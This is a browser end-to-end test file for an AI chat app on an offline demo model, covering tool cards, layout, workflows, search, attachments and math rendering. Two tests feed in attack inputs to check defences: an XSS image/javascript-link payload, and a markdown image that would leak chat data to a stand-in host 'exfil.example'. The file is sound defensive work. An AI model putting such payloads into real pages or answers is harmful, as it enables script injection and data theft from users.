import { afterEach, describe, expect, it } from 'vitest'
import type { BrowserContext, Page } from 'playwright-core'
import { useBuiltApp } from '../support/built-app'
import { screenshot, startChat, useChromium, watchForProblems } from './helpers/browser'
import { useProfiles } from './helpers/profiles'

// The chat UI in a real browser, against the built app on the offline demo model (no keys).

// Answers acted on while they stream (Stop, Esc, leaving, two pages) are in live-answers.test.ts,
// on a fake model the test holds mid-answer; here the demo model streams quickly.
const app = useBuiltApp({ NUXT_DEMO_MODEL_TOKEN_DELAY_MS: '1' })
const browser = useChromium()
const profiles = useProfiles(browser)
let context: BrowserContext

let pageProblems: ReturnType<typeof watchForProblems>[] = []

afterEach(() => {
  // Every page of every test ran under the CSP without a violation.
  expect(pageProblems.flatMap(problems => problems.csp)).toEqual([])
  pageProblems = []
})

/** A fresh browser profile (its own session: its own threads and jobs); each of its pages is watched for CSP violations. */
async function freshPage(): Promise<Page> {
  context = await profiles.fresh({ viewport: { width: 1200, height: 820 } })
  context.on('page', page => pageProblems.push(watchForProblems(page)))
  return context.newPage()
}

const ask = (page: Page, text: string) => startChat(page, app.url, text)

const answer = (page: Page) => page.getByTestId('message-assistant').last()
const answerText = (page: Page) => answer(page).getByTestId('message-content').innerText()

describe('chat in the browser', () => {
  it('asks for the time in Tokyo: a get_current_time card completes and the answer uses its result', async () => {
    const page = await freshPage()
    const problems = watchForProblems(page)
    await ask(page, 'What time is it in Tokyo?')
    const card = page.locator('[data-testid=tool-card][data-tool=get_current_time]')
    await card.and(page.locator('[data-status=completed]')).waitFor()
    await answer(page).and(page.locator('[data-status=complete]')).waitFor()
    await card.locator('[data-slot=trigger]').click()
    const result = JSON.parse(await card.getByTestId('tool-result').innerText())
    expect(result.timezone).toBe('Asia/Tokyo')
    expect(await answerText(page)).toContain(result.local)
    await screenshot(page, 'chat-tool-card')
    // What the answer used is said under it as it ends, and is still there from the stored message after a reload.
    const usage = page.getByTestId('message-usage')
    await usage.waitFor()
    expect(await usage.innerText()).toMatch(/^\d[\d,]* tokens$/)
    await page.reload()
    await usage.waitFor()
    expect(await usage.innerText()).toMatch(/^\d[\d,]* tokens$/)
    expect(problems.errors).toEqual([])
    expect(problems.csp).toEqual([])
  })

  it('renders an XSS payload as harmless text and runs nothing', async () => {
    const page = await freshPage()
    const problems = watchForProblems(page)
    await ask(page, 'Repeat after me: <img src=x onerror=alert(1)> and [a link](javascript:alert(2))')
    await answer(page).and(page.locator('[data-status=complete]')).waitFor()
    const user = page.getByTestId('message-user').last()
    expect(await user.innerText()).toContain('<img src=x onerror=alert(1)>')
    // The demo model repeats the text: the answer's markdown must not make it live either.
    const content = answer(page).getByTestId('message-content')
    expect(await content.innerText()).toContain('<img src=x onerror=alert(1)>')
    expect(await page.locator('[data-testid=messages] img').count()).toBe(0)
    expect(await page.locator('[data-testid=messages] a[href^="javascript:"]').count()).toBe(0)
    await page.waitForTimeout(300)
    expect(problems.dialogs).toEqual([])
    await screenshot(page, 'xss-as-text')
  })

  it('shows an image from another site as a link and never fetches it (no exfiltration through answers)', async () => {
    const page = await freshPage()
    const problems = watchForProblems(page)
    const elsewhere: string[] = []
    page.on('request', (request) => {
      if (!request.url().startsWith(app.url) && !request.url().startsWith('data:')) elsewhere.push(request.url())
    })
    await ask(page, 'Say ![status](https://exfil.example/pixel.png?d=secret-from-the-chat)')
    await answer(page).and(page.locator('[data-status=complete]')).waitFor()
    const blocked = answer(page).locator('a.blocked-image')
    await blocked.first().waitFor()
    expect(await blocked.first().innerText()).toMatch(/status.*image from https:\/\/exfil\.example, not loaded/)
    expect(await page.locator('[data-testid=messages] img').count()).toBe(0)
    await page.waitForTimeout(300)
    expect(elsewhere).toEqual([])
    expect(problems.csp).toEqual([])
  })

  it('works at phone width: the sidebar folds behind a labelled menu button, reachable by keyboard', async () => {
    context = await profiles.fresh({ viewport: { width: 390, height: 844 }, isMobile: true, hasTouch: true })
    const page = await context.newPage()
    await ask(page, 'What is 6*7?')
    await answer(page).and(page.locator('[data-status=complete]')).waitFor()
    const sidebar = page.locator('#sidebar')
    const menu = page.getByRole('button', { name: 'Open the sidebar' })
    expect(await sidebar.boundingBox().then(box => (box?.x ?? 0) + (box?.width ?? 0))).toBeLessThanOrEqual(0)
    // A notification starts under the top bar: the menu button stays visible and can be tapped.
    await page.route('**/api/threads/*/messages', route => route.abort('internetdisconnected'))
    await page.getByTestId('composer-input').fill('This one will not get through')
    await page.getByTestId('composer-input').press('Enter')
    const toast = page.getByTestId('toast').first()
    await toast.waitFor()
    const menuBox = (await menu.boundingBox())!
    // Where it rests once it has slid in.
    await expect.poll(async () => (await toast.boundingBox())!.y).toBeGreaterThanOrEqual(menuBox.y + menuBox.height)
    await page.unroute('**/api/threads/*/messages')
    await menu.focus()
    await page.keyboard.press('Enter')
    await expect.poll(() => sidebar.boundingBox().then(box => box?.x)).toBe(0)
    expect(await page.getByTestId('new-chat').isVisible()).toBe(true)
    await screenshot(page, 'phone-sidebar')
  })

  it('installs a shipped workflow, runs it on the demo model, and watches every step finish', async () => {
    const page = await freshPage()
    const problems = watchForProblems(page)
    await page.goto(`${app.url}/workflows`)
    await page.getByTestId('install-research-draft-critique').click()
    await page.getByTestId('workflow-item').filter({ hasText: 'Research' }).waitFor()
    await page.getByTestId('run-prompt').fill('What is 6*7?')
    await page.getByTestId('run-workflow').click()
    await page.waitForURL(/\/workflows\/runs\/[\w-]+$/)
    const permalink = page.url()
    await page.locator('[data-testid=run-node][data-node=research][data-status=completed]').waitFor({ timeout: 60_000 })
    await page.getByTestId('run-status').and(page.locator('[data-status=complete]')).waitFor({ timeout: 90_000 })
    for (const node of ['start', 'research', 'draft', 'critique', 'final', 'output']) {
      expect(await page.locator(`[data-testid=run-node][data-node=${node}]`).getAttribute('data-status'), node).toBe('completed')
    }
    expect((await page.getByTestId('run-output').innerText()).length).toBeGreaterThan(20)
    // The run's graph fits its box: every one of the six steps in view, at desktop and at phone width
    // (where it is drawn top to bottom).
    const stepsInView = () => page.evaluate(() => {
      const box = document.querySelector('.run__canvas .vue-flow')!.getBoundingClientRect()
      return [...document.querySelectorAll('.run__canvas .vue-flow__node')].filter((node) => {
        const step = node.getBoundingClientRect()
        return step.left >= box.left - 1 && step.right <= box.right + 1 && step.top >= box.top - 1 && step.bottom <= box.bottom + 1
      }).length
    })
    await expect.poll(stepsInView).toBe(6)
    await page.setViewportSize({ width: 390, height: 844 })
    await expect.poll(stepsInView).toBe(6)
    await page.setViewportSize({ width: 1200, height: 820 })
    // A finished step says it has output, and opens from its node in the graph.
    const draft = page.locator('[data-testid=run-node][data-node=draft]')
    expect(await draft.locator('details').evaluate(element => (element as HTMLDetailsElement).open)).toBe(false)
    await draft.getByTestId('step-output-hint').waitFor()
    await page.locator('.vue-flow__node[data-id=draft]').click()
    await expect.poll(() => draft.locator('details').evaluate(element => (element as HTMLDetailsElement).open)).toBe(true)
    await screenshot(page, 'workflow-run')
    // The permalink works from another tab.
    const other = await context.newPage()
    await other.goto(permalink)
    await other.getByTestId('run-status').and(other.locator('[data-status=complete]')).waitFor()
    expect(problems.errors).toEqual([])
    expect(problems.csp).toEqual([])
  })

  it('keeps the composer focused after sending, and keeps the draft without leaving an empty conversation when a first send fails', async () => {
    const page = await freshPage()
    await ask(page, 'What is 2+2?')
    await answer(page).and(page.locator('[data-status=complete]')).waitFor()
    await page.getByTestId('composer-input').fill('And 3+3?')
    await page.getByTestId('composer-input').press('Enter')
    await page.getByTestId('message-assistant').nth(1).waitFor()
    await expect.poll(() => page.evaluate(() => document.activeElement?.getAttribute('data-testid'))).toBe('composer-input')

    // The conversation is created, then the message gets no answer at all (the network drops it).
    await page.goto(`${app.url}/`)
    await page.route('**/api/threads/*/messages', route => route.abort('internetdisconnected'))
    // The first conversation is listed; after the failed send it is still the only one.
    await expect.poll(() => page.locator('.threads__item').count()).toBe(1)
    await page.getByTestId('composer-input').fill('This one will not get through')
    await page.getByTestId('composer-input').press('Enter')
    const toast = page.getByTestId('toast').filter({ hasText: 'The message was not sent' })
    await toast.waitFor()
    expect(await toast.innerText()).toMatch(/could not be reached — your message is kept/)
    expect(await page.getByTestId('composer-input').inputValue()).toBe('This one will not get through')
    expect(page.url()).toBe(`${app.url}/`)
    await expect.poll(() => page.locator('.threads__item').count()).toBe(1)
    await page.unroute('**/api/threads/*/messages')
  })

  for (const width of [1200, 390]) {
    it(`shows a long-titled conversation's menu (rename, delete) inside the sidebar at ${width} px, without sideways scrolling`, async () => {
      const page = await freshPage()
      await page.setViewportSize({ width, height: 800 })
      const url = await ask(page, 'Hello')
      await answer(page).and(page.locator('[data-status=complete]')).waitFor()
      // A title as long as a person may give (the model's own are short).
      const title = `Everything about background jobs ${'and why they outlive the tab '.repeat(3)}`.trim()
      expect(await page.evaluate(async ({ id, title }) => (await fetch(`/api/threads/${id}`, { method: 'PATCH', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ title }) })).status, { id: url.split('/').pop()!, title })).toBe(200)
      await page.reload()
      if (width < 800) await page.getByRole('button', { name: 'Open the sidebar' }).click()
      const item = page.locator('.threads__item').first()
      await item.waitFor()
      // Measured once the sidebar has slid in (a busy machine's slow frames caught it half way).
      await page.evaluate(() => Promise.all(document.getAnimations().filter(animation => animation.effect?.getComputedTiming().iterations !== Infinity).map(animation => animation.finished.catch(() => {}))))
      await item.hover()
      const sidebar = (await page.locator('#sidebar').boundingBox())!
      // Its ⋯ button lies inside the row, and its menu (Rename, Delete…) inside the window.
      const more = item.getByRole('button', { name: /^More for / })
      const button = (await more.boundingBox())!
      expect(button.x + button.width).toBeLessThanOrEqual(sidebar.x + sidebar.width)
      expect(button.x).toBeGreaterThanOrEqual(sidebar.x)
      await more.click()
      for (const name of ['Rename', 'Delete…']) {
        const entry = (await page.getByRole('menuitem', { name }).boundingBox())!
        expect(entry.x).toBeGreaterThanOrEqual(0)
        expect(entry.x + entry.width).toBeLessThanOrEqual(width)
      }
      await page.keyboard.press('Escape')
      const list = page.locator('.sidebar__threads')
      expect(await list.evaluate(element => element.scrollWidth - element.clientWidth)).toBeLessThanOrEqual(0)
      await screenshot(page, `sidebar-long-title-${width}`)
    })
  }

  it('switches between the system theme, light and dark, and keeps the pick across a reload', async () => {
    const page = await freshPage()
    await page.emulateMedia({ colorScheme: 'light' })
    await ask(page, 'What time is it in Tokyo?')
    await answer(page).and(page.locator('[data-status=complete]')).waitFor()
    const background = () => page.evaluate(() => getComputedStyle(document.body).backgroundColor)
    expect(await background()).toBe('rgb(255, 255, 255)')
    const toggle = page.getByTestId('theme-toggle')
    await toggle.click()
    expect(await toggle.getAttribute('data-theme-choice')).toBe('light')
    await toggle.click()
    expect(await toggle.getAttribute('data-theme-choice')).toBe('dark')
    expect(await page.evaluate(() => document.documentElement.dataset.theme)).toBe('dark')
    expect(await background()).toBe('rgb(15, 17, 21)')
    await screenshot(page, 'chat-dark')
    await page.reload()
    await answer(page).waitFor()
    expect(await background()).toBe('rgb(15, 17, 21)')
    await expect.poll(() => toggle.getAttribute('data-theme-choice')).toBe('dark')
    await toggle.click()
    expect(await background()).toBe('rgb(255, 255, 255)')
  })

  it('finds a conversation by a word of its answer from the sidebar search, and opens it', async () => {
    const page = await freshPage()
    const url = await ask(page, 'What time is it in Tokyo?')
    await answer(page).and(page.locator('[data-status=complete]')).waitFor()
    await ask(page, 'Calculate 12*12')
    await answer(page).and(page.locator('[data-status=complete]')).waitFor()
    await page.getByTestId('thread-search').fill('asia tok')
    const hit = page.getByTestId('search-hit')
    await expect.poll(() => hit.count()).toBe(1)
    expect(await hit.locator('mark').allInnerTexts()).toEqual(expect.arrayContaining(['Asia', 'Tokyo']))
    await screenshot(page, 'thread-search')
    await hit.click()
    await page.waitForURL(url)
    expect(await page.getByTestId('thread-search').inputValue()).toBe('')
    await page.getByTestId('thread-search').fill('nothing like this anywhere')
    await page.getByTestId('search-empty').waitFor()
    await page.getByTestId('thread-search').press('Escape')
    await expect.poll(() => page.locator('.threads__item').count()).toBe(2)
  })

  it('highlights a code block under the CSP, with its language and a Copy button that works', async () => {
    const page = await freshPage()
    await context.grantPermissions(['clipboard-read', 'clipboard-write'])
    const problems = watchForProblems(page)
    await ask(page, 'say ```ts\nconst answer: number = 42\n```')
    await answer(page).and(page.locator('[data-status=complete]')).waitFor()
    const block = answer(page).locator('.code-block')
    await block.locator('pre.shiki').waitFor()
    expect(await block.locator('.code-block__lang').innerText()).toBe('ts')
    await block.getByRole('button', { name: 'Copy the code' }).click()
    await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toBe('const answer: number = 42\n')
    await screenshot(page, 'code-block')
    expect(problems.errors).toEqual([])
    expect(problems.csp).toEqual([])
  })

  it('shows a message sent in one tab in another tab of the same conversation, without a reload', async () => {
    const page = await freshPage()
    const url = await ask(page, 'What is 2+3?')
    await answer(page).and(page.locator('[data-status=complete]')).waitFor()
    const other = await context.newPage()
    await other.goto(url)
    await other.getByTestId('message-assistant').first().waitFor()
    await page.getByTestId('composer-input').fill('And what is 4+5?')
    await page.getByTestId('composer-input').press('Enter')
    await other.getByTestId('message-user').filter({ hasText: 'And what is 4+5?' }).waitFor()
    await expect.poll(() => other.getByTestId('message-assistant').nth(1).getByTestId('message-content').innerText().catch(() => '')).toContain('9')
  })

  it('follows the first code and math answer of a page to its end (highlighting and KaTeX arrive after the text)', async () => {
    const page = await freshPage()
    await page.setViewportSize({ width: 1000, height: 420 })
    const lines = Array.from({ length: 6 }, (_, index) => `Line ${index + 1} of the answer.`).join('\n\n')
    const code = Array.from({ length: 8 }, (_, index) => `const value${index} = ${index} * 2`).join('\n')
    await ask(page, `say ${lines}\n\n\`\`\`ts\n${code}\n\`\`\`\n\n$$\n\\sum_{k=1}^{n} k = \\frac{n(n+1)}{2}\n$$\n\nThe end.`)
    const last = answer(page)
    await last.and(page.locator('[data-status=complete]')).waitFor()
    await last.locator('pre.shiki').waitFor()
    await last.locator('.katex-display').waitFor()
    const scroller = page.locator('.chat__scroller')
    await expect.poll(() => scroller.evaluate(element => element.scrollHeight - element.scrollTop - element.clientHeight)).toBeLessThan(80)
    // Followed to the end: "Jump to latest" goes once the scroll that got there is handled.
    await expect.poll(() => page.getByTestId('jump-to-latest').count()).toBe(0)
  })

  it('opens the command palette with Ctrl+K: goes to jobs, and to a conversation by its title', async () => {
    const page = await freshPage()
    const url = await ask(page, 'Palette test: what is 7*6?')
    await answer(page).and(page.locator('[data-status=complete]')).waitFor()
    // The model's title replaces the first message's words in the sidebar, without a reload.
    await page.locator('.threads__item').filter({ hasText: 'Calculating 7*6' }).waitFor()
    await page.keyboard.press('Control+k')
    const palette = page.getByTestId('command-palette')
    await palette.waitFor()
    await expect.poll(() => page.evaluate(() => document.activeElement?.tagName === 'INPUT' && Boolean(document.activeElement.closest('[data-testid=command-palette]')))).toBe(true)
    await page.keyboard.type('jobs')
    await page.keyboard.press('Enter')
    await page.waitForURL(`${app.url}/jobs`)
    await palette.waitFor({ state: 'detached' })
    await page.keyboard.press('Control+k')
    await page.keyboard.type('calculating 7')
    expect(await palette.locator('[role=option]').first().innerText()).toContain('Calculating 7*6')
    await screenshot(page, 'command-palette')
    await page.keyboard.press('Enter')
    await page.waitForURL(url)
    await page.keyboard.press('Control+k')
    await page.keyboard.press('Escape')
    await palette.waitFor({ state: 'detached' })
  })

  for (const width of [1200, 390]) {
    it(`regenerates an answer and edits a question as versions, and switches between them at ${width} px`, async () => {
      const page = await freshPage()
      await page.setViewportSize({ width, height: 820 })
      const problems = watchForProblems(page)
      await ask(page, 'What is 6*7?')
      await answer(page).and(page.locator('[data-status=complete]')).waitFor()
      const firstAnswer = await answerText(page)

      await answer(page).getByTestId('regenerate').click()
      await answer(page).getByTestId('versions').filter({ hasText: '2 / 2' }).waitFor()
      await answer(page).and(page.locator('[data-status=complete]')).waitFor()
      expect(await answerText(page)).toContain('42')
      await answer(page).getByRole('button', { name: 'Previous version' }).click()
      await answer(page).getByTestId('versions').filter({ hasText: '1 / 2' }).waitFor()
      expect(await answerText(page)).toBe(firstAnswer)

      const question = page.getByTestId('message-user').first()
      await question.getByTestId('edit-message').click()
      await question.getByRole('textbox', { name: 'Edit your message' }).fill('What is 2+2?')
      await question.getByRole('textbox', { name: 'Edit your message' }).press('Enter')
      await page.getByTestId('message-user').first().getByTestId('versions').filter({ hasText: '2 / 2' }).waitFor()
      expect(await page.getByTestId('message-user').first().innerText()).toContain('What is 2+2?')
      await answer(page).and(page.locator('[data-status=complete]')).waitFor()
      expect(await answerText(page)).toContain('4')
      if (width < 500) await screenshot(page, 'versions-phone')
      else await screenshot(page, 'versions')

      // Back to the first question: it comes back with the answer last read under it (the first of
      // two, not the newest), and a reload keeps the pick.
      await page.getByTestId('message-user').first().getByRole('button', { name: 'Previous version' }).click()
      await page.getByTestId('message-user').filter({ hasText: 'What is 6*7?' }).waitFor()
      expect(await answer(page).getByTestId('versions').innerText()).toContain('1 / 2')
      expect(await answerText(page)).toBe(firstAnswer)
      await page.reload()
      await page.getByTestId('message-user').filter({ hasText: 'What is 6*7?' }).waitFor()
      expect(await page.getByTestId('message-user').first().getByTestId('versions').innerText()).toContain('1 / 2')
      expect(await answer(page).getByTestId('versions').innerText()).toContain('1 / 2')
      // Forward to the edited question and back again: each shows what was read under it.
      await page.getByTestId('message-user').first().getByRole('button', { name: 'Next version' }).click()
      await page.getByTestId('message-user').filter({ hasText: 'What is 2+2?' }).waitFor()
      await page.getByTestId('message-user').first().getByRole('button', { name: 'Previous version' }).click()
      await page.getByTestId('message-user').filter({ hasText: 'What is 6*7?' }).waitFor()
      expect(await answer(page).getByTestId('versions').innerText()).toContain('1 / 2')
      expect(await page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth)).toBe(true)
      expect(problems.errors).toEqual([])
    })
  }

  it('sends an image and a text file: the demo model says what it received, and the image shows in the conversation under the CSP', async () => {
    const page = await freshPage()
    const problems = watchForProblems(page)
    await page.goto(`${app.url}/`)
    // A real 3 × 2 PNG, made in the page so the test needs no file on disk.
    const png = await page.evaluate(async () => {
      const canvas = Object.assign(document.createElement('canvas'), { width: 3, height: 2 })
      canvas.getContext('2d')!.fillRect(0, 0, 3, 2)
      const blob = await new Promise<Blob>(resolve => canvas.toBlob(blob => resolve(blob!), 'image/png'))
      return [...new Uint8Array(await blob.arrayBuffer())]
    })
    await page.getByTestId('composer-file-input').setInputFiles([
      { name: 'dot.png', mimeType: 'image/png', buffer: Buffer.from(png) },
      { name: 'list.csv', mimeType: 'text/csv', buffer: Buffer.from('item,qty\neggs,12\n') },
    ])
    await page.getByTestId('composer-files').getByText('dot.png').waitFor()
    await page.getByTestId('composer-input').fill('What did I send?')
    await page.getByTestId('composer-input').press('Enter')
    await page.waitForURL(/\/chat\/[\w-]+$/)
    await answer(page).and(page.locator('[data-status=complete]')).waitFor()
    const text = await answerText(page)
    expect(text).toContain('a PNG image, 3 × 2 pixels')
    expect(text).toContain('list.csv')
    const image = page.getByTestId('message-files').locator('img')
    await expect.poll(() => image.evaluate(element => (element as HTMLImageElement).naturalWidth)).toBe(3)
    await screenshot(page, 'attachments')
    expect(problems.errors).toEqual([])
    expect(problems.csp).toEqual([])
  })

  it('typesets math under the CSP (KaTeX and its fonts from this app)', async () => {
    const page = await freshPage()
    const problems = watchForProblems(page)
    const fonts: string[] = []
    page.on('response', (response) => {
      if (/\.(woff2?|ttf)(\?|$)/.test(response.url())) fonts.push(`${response.status()} ${new URL(response.url()).origin}`)
    })
    await ask(page, 'say $$\\int_0^1 x^2\\,dx = \\frac{1}{3}$$')
    await answer(page).and(page.locator('[data-status=complete]')).waitFor()
    await answer(page).locator('.katex-block .katex').waitFor()
    await screenshot(page, 'math')
    await expect.poll(() => fonts.length).toBeGreaterThan(0)
    expect(fonts.every(font => font === `200 ${app.url}`)).toBe(true)
    expect(problems.errors).toEqual([])
    expect(problems.csp).toEqual([])
  })
})
